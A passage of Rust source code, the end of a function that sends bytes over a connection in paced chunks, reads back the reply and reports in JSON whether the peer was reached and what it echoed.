            c.write_all(&bytes).map_err(|e| e.to_string())?;
            std::thread::sleep(Duration::from_millis(100));
        }
        let mut got = Vec::new();
        let mut b = [0u8; 4096];
        loop {
            match c.read(&mut b) {
                Ok(0) => break,
                Ok(n) => got.extend_from_slice(&b[..n]),
                Err(e) if got.is_empty() => return Err(e.kind().to_string()),
                Err(_) => break,
            }
        }
        if got.is_empty() {
            return Err("closed".into());
        }
        Ok(got)
    };
    match run() {
        Ok(b) => json!({"reached": true, "echo": String::from_utf8_lossy(&b)}),
        Err(e) => json!({"reached": false, "error": e}),
    }
}
